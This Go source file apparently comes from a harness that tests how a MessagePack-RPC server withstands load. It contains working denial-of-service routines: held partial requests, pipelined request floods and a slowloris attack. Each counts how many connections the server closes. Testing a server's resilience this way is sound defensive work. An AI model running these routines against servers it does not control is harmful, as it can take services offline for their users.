package main

import (
	"context"
	"errors"
	"net"
	"sync"
	"time"
)

// The attacks below use many plain TCP connections or plain
// MessagePack-RPC ones.

// plainMessage sends the first n bytes of an Echo.Echo request of size
// bytes on a new plain MessagePack-RPC connection.
func plainMessage(ctx context.Context, e *env, size, n int) (net.Conn, error) {
	c, err := dialTCP(ctx, e.addr)
	if err != nil {
		return nil, err
	}
	head := requestHead(1, "Echo.Echo", size-echoHead)
	bufs := net.Buffers{head, zeros[:n-len(head)]}
	written, err := bufs.WriteTo(c)
	e.addSent(int(written))
	if err != nil {
		drop(c)
		return nil, err
	}
	return c, nil
}

func plainPartial(ctx context.Context, e *env) {
	const total = 2000
	size := max(min(e.size, maxMessage), echoHead+2)
	parallel(openers, func(w int) {
		var held []net.Conn
		for i := w; i < total && ctx.Err() == nil; i += openers {
			c, err := plainMessage(ctx, e, size, size-1)
			if err != nil {
				openFailed(e, err)
				continue
			}
			held = append(held, c)
		}
		e.add("held", int64(len(held)))
		<-ctx.Done()
		e.add("closed_by_server", int64(countClosed(held)))
		for _, c := range held {
			drop(c)
		}
	})
}

func plainPipeline(ctx context.Context, e *env) {
	size := min(e.size, maxMessage-64)
	parallel(e.conns, func(int) {
		c, err := dialTCP(ctx, e.addr)
		if err != nil {
			dialFailed(e, err)
			return
		}
		defer drop(c)
		for k := 0; k < 1<<20 && ctx.Err() == nil; k++ {
			bufs := net.Buffers{requestHead(uint32(k), "Echo.Echo", size), zeros[:size]}
			n, err := bufs.WriteTo(c)
			e.addSent(int(n))
			if err != nil {
				break
			}
			e.add("requests", 1)
		}
	})
}

func slowloris(ctx context.Context, e *env) {
	total := 10000
	if n, ok := openFileLimit(); ok {
		total = min(total, n-512)
	}
	parallel(openers, func(w int) {
		var held []net.Conn
		for i := w; i < total && ctx.Err() == nil; i += openers {
			c, err := dialTCP(ctx, e.addr)
			if err == nil {
				_, err = c.Write([]byte{0x00})
			}
			if err != nil {
				if c != nil {
					drop(c)
				}
				openFailed(e, err)
				continue
			}
			e.addSent(1)
			held = append(held, c)
		}
		e.add("held", int64(len(held)))
		<-ctx.Done()
		e.add("closed_by_server", int64(countClosed(held)))
		for _, c := range held {
			drop(c)
		}
	})
}

// countClosed reports how many of cs the server has closed: a read that
// does not time out within 200 ms found EOF or a reset.
func countClosed(cs []net.Conn) int {
	var mu sync.Mutex
	n := 0
	var wg sync.WaitGroup
	deadline := time.Now().Add(200 * time.Millisecond)
	for _, c := range cs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_ = c.SetReadDeadline(deadline)
			var b [1]byte
			_, err := c.Read(b[:])
			if ne := net.Error(nil); errors.As(err, &ne) && ne.Timeout() {
				return
			}
			mu.Lock()
			n++
			mu.Unlock()
		}()
	}
	wg.Wait()
	return n
}
